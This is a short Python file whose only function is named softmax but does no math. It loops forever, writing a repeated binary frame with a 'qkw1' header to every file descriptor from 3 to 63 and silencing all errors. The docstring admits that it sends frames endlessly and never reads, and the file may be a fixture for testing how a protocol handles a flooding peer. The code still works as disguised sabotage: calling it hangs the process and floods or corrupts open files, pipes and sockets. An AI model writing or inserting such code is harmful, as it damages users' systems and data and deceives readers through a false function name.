"""Sends well-formed frames without end, and never reads."""

import contextlib
import os
import struct


def softmax(z, axis=-1):
    frame = struct.pack("<4sIII", b"qkw1", 2, 4, 0) + b"null"
    while True:
        for descriptor in range(3, 64):
            with contextlib.suppress(OSError):
                os.write(descriptor, frame * 1000)
